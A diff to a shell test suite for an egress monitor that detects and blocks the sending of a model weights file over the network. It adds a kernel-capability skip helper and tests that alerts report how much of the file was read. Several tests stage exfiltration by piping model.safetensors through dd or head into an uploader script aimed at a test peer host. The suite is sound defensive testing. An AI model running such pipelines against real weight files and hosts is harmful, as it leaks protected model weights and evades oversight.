@@ -252,7 +252,16 @@ small_send() {
 
 # ---- other read paths -----------------------------------------------------
 
+# skip where the kernel gives no direct-I/O hook (docs/KERNELS.md: direct)
+need_direct() {
+	local impl
+	impl="$("$VIGIL" check --json 2>/dev/null | python3 -c \
+		'import json,sys; print(json.load(sys.stdin)["capabilities"]["direct"].get("family") or "blind")')"
+	[ "$impl" != blind ] || skip "no direct-I/O hook on this kernel (capability direct: blind)"
+}
+
 @test "propagate: monitor: O_DIRECT reads taint (dd iflag=direct | uploader)" {
+	need_direct
 	start_sink tcp
 	start_agent --mode monitor
 	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
@@ -266,6 +275,7 @@ small_send() {
 }
 
 @test "propagate: enforce: O_DIRECT reads taint: the uploader is stopped" {
+	need_direct
 	start_sink tcp
 	start_agent --mode enforce
 	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' \
@@ -278,6 +288,7 @@ small_send() {
 }
 
 @test "propagate: monitor: an O_DIRECT read through a bind mount taints (the real inode)" {
+	need_direct
 	start_sink tcp
 	mkdir "$T/bind"
 	mount --bind "$W" "$T/bind"
@@ -288,5 +299,33 @@ small_send() {
 	[ "$status" -eq 0 ]
 	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
 		taint.chain.0.comm=dd
+	[ "$status" -eq 0 ]
+}
+
+# ---- read coverage ----------------------------------------------------------
+
+@test "propagate: monitor: an alert says how much of the file was read" {
+	start_sink tcp
+	start_agent --mode monitor
+	run in_cg sh -c 'head -c 2097152 "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
+		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+		taint.sources.0.size=4194304 taint.sources.0.read_pct'>='45 \
+		taint.sources.0.read_pct'<='60 taint.chain.0.comm=head
+	[ "$status" -eq 0 ]
+	pct="$(alert_get taint.sources.0.read_pct rule=weights-egress)"
+	run alert_wait rule=weights-egress message~"model.safetensors ($pct% of it read)"
+	[ "$status" -eq 0 ]
+	figure "read coverage of a 2 MiB head of a 4 MiB file (%)" "$pct"
+}
+
+@test "propagate: enforce: a whole read says 100%" {
+	start_sink tcp
+	start_agent --mode enforce
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 3 ]
+	run alert_wait rule=weights-connect action=blocked taint.sources.0.read_pct=100 \
+		message~"(100% of it read)"
 	[ "$status" -eq 0 ]
 }
